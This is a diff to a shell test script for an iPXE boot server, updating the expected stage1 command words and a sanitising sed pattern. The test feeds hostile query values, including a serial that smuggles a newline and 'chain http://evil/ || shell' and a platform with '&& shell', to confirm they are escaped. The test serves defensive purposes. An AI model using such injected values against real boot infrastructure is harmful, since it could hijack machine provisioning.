@@ -129,9 +129,9 @@ rm -f "$T_DIR/huge"
 # hostile values collected by iPXE cannot steer the stage1 script
 s=$(hp '/boot/stage1.ipxe?mac=52-54-00-12-34-56&serial=x%0achain%20http://evil/%20%7C%7C%20shell&uuid=$%7Bnet0/ip%7D&platform=efi%20%26%26%20shell&buildarch=%23!ipxe')
 words=$(grep -v '^#' <<<"$s" | grep -v '^:' | awk '{print $1}' | sort -u | tr '\n' ' ')
-t_is "$words" "chain echo reboot sleep " "hostile serial/uuid/platform add no command to the stage1 script"
+t_is "$words" "echo goto imgexec imgfetch imgfree reboot sleep " "hostile serial/uuid/platform add no command to the stage1 script"
 t_is "$(grep '^echo epoxy stage1 host=' <<<"$s" | wc -w)" 9 "hostile values stay one word each, escaped"
-sed 's/ || goto fail[0-9]$//; s/ || exit 1$//' <<<"$s" | grep -v '^#' | grep -q '[$|&{}#]'
+sed 's/ || goto [a-z]*[0-9]*$//; s/ || exit 1$//' <<<"$s" | grep -v '^#' | grep -q '[$|&{}#]'
 t_ok $(( $? == 0 )) "no iPXE special character survives in the script body"
 
 t_is "$(hs_code /healthz)" 200 "server still healthy after all of the above"
